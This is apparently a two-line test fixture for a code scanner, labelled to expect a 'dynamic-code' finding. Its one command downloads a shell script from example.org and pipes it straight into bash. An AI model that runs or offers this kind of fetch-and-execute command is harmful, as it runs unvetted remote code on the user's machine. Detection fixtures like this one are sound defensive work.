# expect: dynamic-code
curl -s https://example.org/x.sh | tee x.sh | bash
